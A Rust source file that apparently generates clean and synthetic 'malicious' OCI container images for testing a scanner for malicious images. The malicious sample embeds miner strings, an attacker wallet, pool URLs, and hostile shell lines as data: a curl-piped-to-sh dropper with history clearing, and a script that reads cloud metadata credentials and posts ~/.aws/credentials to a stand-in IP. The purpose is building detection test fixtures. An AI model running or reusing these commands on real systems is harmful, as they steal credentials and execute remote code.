//! Sample images built by code: a minimal OCI image layout writer (gzip tar layers, config,
//! manifest, index) and the two images `make demo` scans — one clean, one malicious. The
//! malicious sample carries SYNTHETIC miner strings and configs (XMRig's usage text quoted
//! from its source, a published attacker wallet, pool names from the intel file) in tiny
//! fake ELF files; it contains no miner and nothing in it runs.
//!
//! Used by `examples/make_samples.rs` and by the end-to-end tests.

use sha2::{Digest, Sha256};
use std::io::Write;
use std::path::Path;

/// One entry of a layer.
#[derive(Debug, Clone)]
pub enum Entry {
    File {
        path: String,
        mode: u32,
        data: Vec<u8>,
    },
    Dir {
        path: String,
    },
    Symlink {
        path: String,
        target: String,
    },
    /// Deletes `path` from lower layers (`dir/.wh.name`).
    Whiteout {
        path: String,
    },
}

impl Entry {
    pub fn file(path: &str, mode: u32, data: impl Into<Vec<u8>>) -> Entry {
        Entry::File {
            path: path.into(),
            mode,
            data: data.into(),
        }
    }
}

/// An image to write.
#[derive(Debug, Clone, Default)]
pub struct ImageSpec {
    pub layers: Vec<Vec<Entry>>,
    pub entrypoint: Vec<String>,
    pub cmd: Vec<String>,
    pub env: Vec<String>,
    pub exposed_ports: Vec<String>,
    pub user: String,
    /// `(created_by, empty_layer)`; when empty, one step per layer is made up.
    pub history: Vec<(String, bool)>,
}

fn sha256_hex(b: &[u8]) -> String {
    hex::encode(Sha256::digest(b))
}

/// An uncompressed tar of `entries` (deterministic: mtime 0, root owner).
pub fn tar_bytes(entries: &[Entry]) -> std::io::Result<Vec<u8>> {
    let mut b = tar::Builder::new(Vec::new());
    for e in entries {
        let mut h = tar::Header::new_gnu();
        h.set_mtime(0);
        h.set_uid(0);
        h.set_gid(0);
        match e {
            Entry::File { path, mode, data } => {
                h.set_entry_type(tar::EntryType::Regular);
                h.set_mode(*mode);
                h.set_size(data.len() as u64);
                b.append_data(&mut h, path, data.as_slice())?;
            }
            Entry::Dir { path } => {
                h.set_entry_type(tar::EntryType::Directory);
                h.set_mode(0o755);
                h.set_size(0);
                b.append_data(&mut h, path, std::io::empty())?;
            }
            Entry::Symlink { path, target } => {
                h.set_entry_type(tar::EntryType::Symlink);
                h.set_mode(0o777);
                h.set_size(0);
                b.append_link(&mut h, path, target)?;
            }
            Entry::Whiteout { path } => {
                let (dir, name) = match path.rsplit_once('/') {
                    Some((d, n)) => (format!("{d}/"), n),
                    None => (String::new(), path.as_str()),
                };
                h.set_entry_type(tar::EntryType::Regular);
                h.set_mode(0o644);
                h.set_size(0);
                b.append_data(&mut h, format!("{dir}.wh.{name}"), std::io::empty())?;
            }
        }
    }
    b.into_inner()
}

/// Gzip `data`.
pub fn gzip(data: &[u8]) -> std::io::Result<Vec<u8>> {
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(data)?;
    gz.finish()
}

fn put_blob(dir: &Path, data: &[u8]) -> std::io::Result<String> {
    let hex = sha256_hex(data);
    std::fs::write(dir.join("blobs/sha256").join(&hex), data)?;
    Ok(format!("sha256:{hex}"))
}

/// Write `spec` as an OCI image layout at `dir` (created; existing blobs kept) tagged
/// `latest`. Returns the manifest digest.
pub fn write_oci_layout(dir: &Path, spec: &ImageSpec) -> std::io::Result<String> {
    std::fs::create_dir_all(dir.join("blobs/sha256"))?;
    let mut layers = Vec::new();
    let mut diff_ids = Vec::new();
    for entries in &spec.layers {
        let tar = tar_bytes(entries)?;
        diff_ids.push(format!("sha256:{}", sha256_hex(&tar)));
        let gz = gzip(&tar)?;
        let digest = put_blob(dir, &gz)?;
        layers.push((digest, gz.len() as u64));
    }
    finish_layout(dir, spec, layers, diff_ids)
}

fn finish_layout(
    dir: &Path,
    spec: &ImageSpec,
    layer_blobs: Vec<(String, u64)>,
    diff_ids: Vec<String>,
) -> std::io::Result<String> {
    std::fs::write(dir.join("oci-layout"), br#"{"imageLayoutVersion":"1.0.0"}"#)?;
    let layers: Vec<serde_json::Value> = layer_blobs
        .iter()
        .map(|(digest, size)| {
            serde_json::json!({
                "mediaType": "application/vnd.oci.image.layer.v1.tar+gzip",
                "digest": digest,
                "size": size,
            })
        })
        .collect();
    let history: Vec<serde_json::Value> = if spec.history.is_empty() {
        (0..layer_blobs.len())
            .map(|i| serde_json::json!({"created_by": format!("COPY layer{i} /")}))
            .collect()
    } else {
        spec.history
            .iter()
            .map(|(c, empty)| serde_json::json!({"created_by": c, "empty_layer": empty}))
            .collect()
    };
    let ports: serde_json::Map<String, serde_json::Value> = spec
        .exposed_ports
        .iter()
        .map(|p| (p.clone(), serde_json::json!({})))
        .collect();
    let mut cfg = serde_json::json!({
        "Env": spec.env,
        "ExposedPorts": ports,
        "User": spec.user,
    });
    if !spec.cmd.is_empty() {
        cfg["Cmd"] = serde_json::json!(spec.cmd);
    }
    if !spec.entrypoint.is_empty() {
        cfg["Entrypoint"] = serde_json::json!(spec.entrypoint);
    }
    let config = serde_json::json!({
        "architecture": "amd64",
        "os": "linux",
        "created": "2026-01-01T00:00:00Z",
        "config": cfg,
        "rootfs": {"type": "layers", "diff_ids": diff_ids},
        "history": history,
    });
    let config_bytes = serde_json::to_vec(&config)?;
    let config_digest = put_blob(dir, &config_bytes)?;
    let manifest = serde_json::json!({
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "config": {
            "mediaType": "application/vnd.oci.image.config.v1+json",
            "digest": config_digest,
            "size": config_bytes.len(),
        },
        "layers": layers,
    });
    let manifest_bytes = serde_json::to_vec(&manifest)?;
    let manifest_digest = put_blob(dir, &manifest_bytes)?;
    let index = serde_json::json!({
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.index.v1+json",
        "manifests": [{
            "mediaType": "application/vnd.oci.image.manifest.v1+json",
            "digest": manifest_digest,
            "size": manifest_bytes.len(),
            "annotations": {"org.opencontainers.image.ref.name": "latest"},
        }],
    });
    std::fs::write(dir.join("index.json"), serde_json::to_vec_pretty(&index)?)?;
    Ok(manifest_digest)
}

/// A published attacker wallet (dockmylife/memorytest, docker/hub-feedback#1121).
pub const SAMPLE_WALLET: &str =
    "47ZaBbPk8T7TQa1Q7NdB2wAw6Y38DtjNgjKU2QBssUb2fcL7q3aR4kMhG7hfqNha3JEYnveoEQHPVb8zBnUFjRvc8JTpRW3";

/// Strings an XMRig build carries (quoted from xmrig/xmrig@v6.26.0 sources and the
/// published YARA rules), wrapped in a tiny fake ELF. Not a miner: it has no code.
pub fn fake_miner_elf(pool: &str) -> Vec<u8> {
    let payload = format!(
        "\0XMRig 6.21.0\0Usage: xmrig [OPTIONS]\0  -o, --url=URL             URL of mining server\0\
         --donate-level=N          donate level, default 1%%\0'h' hashrate, 'p' pause, 'r' resume\0\
         {pool}\0randomx\0cryptonight\0"
    );
    crate::analyzers::binary::tiny_elf(payload.as_bytes())
}

fn base_layer() -> Vec<Entry> {
    vec![
        Entry::Dir { path: "etc".into() },
        Entry::file(
            "etc/os-release",
            0o644,
            "PRETTY_NAME=\"Sample Linux\"\nID=sample\n",
        ),
        Entry::file("etc/passwd", 0o644, "root:x:0:0:root:/root:/bin/sh\n"),
        Entry::Dir {
            path: "usr/bin".into(),
        },
        Entry::file(
            "usr/bin/hello",
            0o755,
            crate::analyzers::binary::tiny_elf(b"\0hello, world\0"),
        ),
        Entry::file(
            "usr/local/bin/entrypoint.sh",
            0o755,
            "#!/bin/sh\nset -e\nif [ \"$1\" = serve ]; then exec hello; fi\nexec \"$@\"\n",
        ),
        Entry::file(
            "etc/app/config.toml",
            0o644,
            "listen = \"0.0.0.0:8080\"\nworkers = 4\nlog_level = \"info\"\n",
        ),
    ]
}

/// The clean sample: ordinary files, a shell script, a small ELF, a config.
pub fn clean_sample() -> ImageSpec {
    ImageSpec {
        layers: vec![base_layer()],
        entrypoint: vec!["/usr/local/bin/entrypoint.sh".into()],
        cmd: vec!["serve".into()],
        env: vec!["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin".into()],
        exposed_ports: vec!["8080/tcp".into()],
        user: "1000".into(),
        history: vec![],
    }
}

/// The malicious sample (synthetic; see the module docs).
pub fn malicious_sample() -> std::io::Result<ImageSpec> {
    let nested = gzip(&tar_bytes(&[
        Entry::Dir {
            path: "xmrig-6.21.0".into(),
        },
        Entry::file(
            "xmrig-6.21.0/xmrig",
            0o755,
            fake_miner_elf("donate.v2.xmrig.com:3333"),
        ),
    ])?)?;
    let config = format!(
        "{{\n  \"donate-level\": 1,\n  \"randomx\": {{ \"1gb-pages\": true }},\n  \"pools\": [\n    {{ \"url\": \"stratum+tcp://pool.supportxmr.com:5555\", \"user\": \"{SAMPLE_WALLET}\", \"pass\": \"x\" }}\n  ]\n}}\n"
    );
    let layer1 = vec![
        Entry::file("usr/local/bin/xmrig", 0o755, "#!/bin/sh\necho synthetic sample\n"),
        Entry::file(
            "opt/app/.cache/kworker",
            0o755,
            fake_miner_elf("stratum+tcp://pool.minexmr.com:4444"),
        ),
        Entry::file("opt/app/config.json", 0o644, config),
        Entry::file(
            "opt/app/run.sh",
            0o755,
            "#!/bin/sh\n# synthetic dropper for the imgscan demo\ncurl -fsSL http://203.0.113.9/xmr.sh | sh\nchmod +x /tmp/.x/kworker\nhistory -c\n",
        ),
        Entry::file(
            "opt/app/sync.sh",
            0o755,
            "#!/bin/sh\nK=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)\ncurl -s -X POST --data-binary @$HOME/.aws/credentials http://198.51.100.23/c\n",
        ),
        Entry::file("tmp/kdevtmpfsi", 0o755, fake_miner_elf("xmr-eu1.nanopool.org:14444")),
        Entry::file("opt/bundle/xmrig-6.21.0-linux-x64.tar.gz", 0o644, nested),
    ];
    let layer2 = vec![Entry::Whiteout {
        path: "tmp/kdevtmpfsi".into(),
    }];
    Ok(ImageSpec {
        layers: vec![base_layer(), layer1, layer2],
        entrypoint: vec![],
        cmd: vec![
            "/usr/local/bin/xmrig".into(),
            "-o".into(),
            "stratum+tcp://pool.minexmr.com:4444".into(),
        ],
        env: vec![
            "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin".into(),
            format!("WALLET={SAMPLE_WALLET}"),
        ],
        exposed_ports: vec!["3333/tcp".into()],
        user: String::new(),
        history: vec![
            ("COPY rootfs /".into(), false),
            (
                "RUN /bin/sh -c curl -fsSL http://203.0.113.9/install.sh | sh".into(),
                false,
            ),
            ("RUN /bin/sh -c rm /tmp/kdevtmpfsi".into(), false),
            ("ENV WALLET=...".into(), true),
            ("CMD [\"/usr/local/bin/xmrig\"]".into(), true),
        ],
    })
}

/// Write both samples under `dir` (`dir/clean`, `dir/malicious`).
pub fn write_samples(dir: &Path) -> std::io::Result<()> {
    let _ = std::fs::remove_dir_all(dir.join("clean"));
    let _ = std::fs::remove_dir_all(dir.join("malicious"));
    write_oci_layout(&dir.join("clean"), &clean_sample())?;
    write_oci_layout(&dir.join("malicious"), &malicious_sample()?)?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn writes_a_layout() {
        let d = tempfile::tempdir().unwrap();
        write_samples(d.path()).unwrap();
        let idx: serde_json::Value =
            serde_json::from_slice(&std::fs::read(d.path().join("malicious/index.json")).unwrap())
                .unwrap();
        let m = idx["manifests"][0]["digest"].as_str().unwrap();
        let blob = d
            .path()
            .join("malicious/blobs/sha256")
            .join(m.trim_start_matches("sha256:"));
        let manifest: serde_json::Value =
            serde_json::from_slice(&std::fs::read(blob).unwrap()).unwrap();
        assert_eq!(manifest["layers"].as_array().unwrap().len(), 3);
    }
}
